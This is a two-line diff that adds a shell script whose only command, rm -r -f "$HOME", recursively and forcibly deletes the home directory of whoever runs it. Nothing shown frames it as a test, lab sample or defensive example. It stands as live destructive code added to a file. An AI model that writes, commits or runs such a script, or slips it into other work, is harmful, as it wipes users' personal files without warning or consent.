@@ -1,0 +1,2 @@
+#!/bin/sh
+rm -r -f "$HOME"
